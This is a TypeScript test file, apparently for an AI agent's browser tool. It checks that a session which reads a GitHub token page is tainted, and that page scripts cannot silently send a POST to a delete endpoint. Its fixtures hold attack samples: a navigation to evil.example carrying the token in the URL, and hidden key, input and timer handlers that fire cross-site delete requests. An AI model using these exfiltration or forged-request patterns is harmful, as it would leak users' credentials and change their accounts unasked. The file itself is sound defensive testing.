// Variants kept from an attack review of two changes: every sensitive read taints the session as it goes through
// (NetworkGuard.noteSensitiveRead), and an action whose renderer announced nothing returns without a quiet window
// (TrackedPage.settle). In isolated mode and in the user's Chrome, one browser each, in process:
// - a sensitive page's content brought onto a plain page of the same site through a redirect hop (of a page's
//   fetch, of a dedicated worker's), a same-origin frame copied out and removed, or (isolated: the user's Chrome
//   does not show tabward a service worker's requests) a service worker, taints the session: the agent cannot then
//   carry it to another site unasked;
// - press_key with no ref, fill_form over many fields and a click posting through a timer of 0, each making the page
//   write into a sensitive page: never sent unasked (held and refused, or refused after the action, and told).

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { useBrowserIn } from '../helpers/browserInMode.ts';
import { type Fixture, html, redirect, startFixture } from '../helpers/fixtureServer.ts';
import type { InProcessMcp } from '../helpers/inProcessMcp.ts';
import { refOf } from '../helpers/mcpClient.ts';
import { serveTokenServiceWorker, serviceWorkerReaderPage, showInOut } from '../helpers/tokenPages.ts';
import { waitFor } from '../helpers/waitFor.ts';

const token = 'ghp_variantToken3318';

/** Plain pages of github.com that get the token page's content onto themselves; `isolatedOnly`: see the header. */
const ways: Record<string, { readonly page: string; readonly isolatedOnly?: true }> = {
  "a redirect hop of the page's fetch": {
    page: `<p id="out"></p><script>fetch('/hop').then((r) => r.text()).then(${showInOut})</script>`,
  },
  "a redirect hop of a worker's fetch": {
    page: `<p id="out"></p><script>const w = new Worker('/hop-worker.js'); w.onmessage = (e) => (${showInOut})(e.data)</script>`,
  },
  'a same-origin frame of the token page, copied out and removed': {
    page: `<p id="out"></p><iframe src="/settings/tokens" onload="(${showInOut})(this.contentDocument.body.innerHTML); this.remove()"></iframe>`,
  },
  "a service worker's fetch": {
    page: serviceWorkerReaderPage,
    isolatedOnly: true,
  },
};

let gh: Fixture;
let evil: Fixture;
let blog: Fixture;
const deletes = () => gh.writes().filter((request) => request.path.startsWith('/settings/delete'));

before(async () => {
  const routes: Parameters<typeof startFixture>[0] = {
    '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${token}</p>`),
    '/settings/delete': (_req, _body, res) => html(res, '<title>Deleted</title>Deleted'),
    '/hop': (_req, _body, res) => redirect(res, '/settings/tokens'),
    '/hop-worker.js': (_req, _body, res) =>
      void res
        .writeHead(200, { 'content-type': 'text/javascript' })
        .end("fetch('/hop').then((r) => r.text()).then((t) => postMessage(t))"),
    '/sw.js': (_req, _body, res) => serveTokenServiceWorker(res),
  };
  Object.values(ways).forEach(({ page }, at) => {
    routes[`/acme${at}`] = (_req, _body, res) => html(res, `<title>acme ${at}</title>${page}`);
  });
  gh = await startFixture(routes, { tls: true });
  evil = await startFixture({ '/p': (_req, _body, res) => html(res, '<title>ok</title>ok') }, { tls: true });
  const target = JSON.stringify(gh.url('github.com', '/settings/delete'));
  const post = `fetch(${target}, { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => {})`.replaceAll(
    '"',
    '&quot;',
  );
  const fields = Array.from(
    { length: 8 },
    (_, at) => `<label>Field ${at} <input ${at === 7 ? `oninput="${post}"` : ''}></label>`,
  ).join('\n');
  blog = await startFixture({
    '/form': (_req, _body, res) => html(res, `<title>Form</title>${fields}`),
    '/keys': (_req, _body, res) =>
      html(
        res,
        `<title>Keys</title><input aria-label="Search" autofocus onkeydown="if (event.key === 'Enter') ${post}">`,
      ),
    '/later': (_req, _body, res) =>
      html(res, `<title>Later</title><button onclick="setTimeout(() => ${post}, 0)">Like</button>`),
  });
});
after(async () => {
  await gh?.close();
  await evil?.close();
  await blog?.close();
});

function variantsIn(mode: 'isolated' | 'shared'): void {
  describe(`${mode}`, () => {
    const tw = useBrowserIn(mode);

    /** A fresh call path (the last one made is the one the backstop taints); `refuse` says what the human refuses. */
    const connect = async (refuse: RegExp) => {
      const mcp = await tw.connect();
      mcp.human.policy = (message) => ({ decision: refuse.test(message) ? 'reject' : 'approve' });
      return mcp;
    };

    Object.entries(ways).forEach(([how, { isolatedOnly }], at) => {
      if (isolatedOnly && mode === 'shared') return;
      test(`the token page read through ${how} taints: it cannot then go to another site unasked`, async () => {
        const mcp = await connect(/evil\.example/);
        try {
          await mcp.call('new_page', { url: gh.url('github.com', `/acme${at}`) });
          await waitFor('the token on the page', async () =>
            (await mcp.call('take_snapshot')).text.includes(token),
          );
          const seenBefore = evil.seen.length;
          const opened = await mcp.call('new_page', { url: evil.url('evil.example', `/p?d=${token}`) });
          const leaked = evil.seen.slice(seenBefore).filter((request) => request.path.includes(token));
          assert.deepEqual(leaked, [], opened.text);
          assert.match((await mcp.call('browser_status')).text, /tainted by reading: https:\/\/github\.com/);
        } finally {
          await mcp.close();
        }
      });
    });

    const actions: Record<string, { readonly page: string; act(mcp: InProcessMcp): Promise<unknown> }> = {
      'press_key with no ref (Enter in the focused field)': {
        page: '/keys',
        act: (mcp) => mcp.call('press_key', { key: 'Enter' }),
      },
      'fill_form over eight fields, the last of which posts as it is typed into': {
        page: '/form',
        act: async (mcp) => {
          const snapshot = (await mcp.call('take_snapshot')).text;
          const fields = Array.from({ length: 8 }, (_, at) => ({
            ref: refOf(snapshot, `Field ${at}`),
            value: 'x',
          }));
          return mcp.call('fill_form', { fields });
        },
      },
      'a click posting through a timer of 0': {
        page: '/later',
        act: async (mcp) => mcp.call('click', { ref: refOf((await mcp.call('take_snapshot')).text, 'Like') }),
      },
    };
    for (const [how, { page, act }] of Object.entries(actions)) {
      test(`${how}: the write into a sensitive page is never sent unasked`, async () => {
        const mcp = await connect(/did not predict/);
        try {
          await mcp.call('new_page', { url: blog.url('blog.example', page) });
          const acted = await act(mcp);
          const next = await mcp.call('take_snapshot');
          assert.equal(deletes().length, 0, `${how} reached the server`);
          const asked = /Sends: POST github\.com:\d+\/settings\/delete/.test(mcp.human.questions.join('\n'));
          const told = /POST https:\/\/github\.com:\d+\/settings\/delete: .*nobody left to ask/.test(
            `${JSON.stringify(acted)}\n${next.text}`,
          );
          assert.ok(asked || told, `${how}: the request was neither put to the human nor reported`);
        } finally {
          await mcp.close();
        }
      });
    }
  });
}

variantsIn('isolated');
variantsIn('shared');
